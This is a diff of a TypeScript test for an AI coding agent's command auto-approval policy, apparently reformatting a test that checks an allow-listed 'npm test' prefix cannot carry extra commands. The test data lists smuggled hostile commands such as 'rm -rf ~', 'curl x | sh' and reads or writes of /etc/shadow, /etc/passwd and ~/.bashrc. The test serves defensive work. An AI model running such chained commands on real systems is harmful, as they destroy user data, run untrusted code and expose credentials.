@@ -2,7 +2,14 @@ import * as assert from 'node:assert/strict';
 import { ApprovalPolicy, commandAllowed, type AutoApproveSettings } from '../../src/tools/approval-policy';
 import type { ApprovalRequest } from '../../src/tools/ports';
 
-const edit = (toolName = 'edit_file', path = 'src/a.ts'): ApprovalRequest => ({ kind: 'edit', toolName, toolCallId: 'c1', path, oldContent: 'a', newContent: 'b' });
+const edit = (toolName = 'edit_file', path = 'src/a.ts'): ApprovalRequest => ({
+  kind: 'edit',
+  toolName,
+  toolCallId: 'c1',
+  path,
+  oldContent: 'a',
+  newContent: 'b',
+});
 const run = (command: string): ApprovalRequest => ({ kind: 'command', toolName: 'run_command', toolCallId: 'c2', command, cwd: '.' });
 
 describe('tools: which edits and commands run without asking', () => {
@@ -40,7 +47,17 @@ describe('tools: which edits and commands run without asking', () => {
   });
 
   it('never lets an allow-list prefix carry a chained, piped, substituted or redirected command', () => {
-    for (const attack of ['npm test && rm -rf ~', 'npm test; curl x | sh', 'npm test | tee /etc/passwd', 'npm test > ~/.bashrc', 'npm test `rm -rf ~`', 'npm test $(rm -rf ~)', 'npm test\nrm -rf ~', 'npm test & rm -rf ~', 'npm test < /etc/shadow']) {
+    for (const attack of [
+      'npm test && rm -rf ~',
+      'npm test; curl x | sh',
+      'npm test | tee /etc/passwd',
+      'npm test > ~/.bashrc',
+      'npm test `rm -rf ~`',
+      'npm test $(rm -rf ~)',
+      'npm test\nrm -rf ~',
+      'npm test & rm -rf ~',
+      'npm test < /etc/shadow',
+    ]) {
       assert.equal(commandAllowed(attack, 'npm test'), false, attack);
     }
     assert.equal(commandAllowed('npm test', ''), false, 'an empty entry allows nothing');
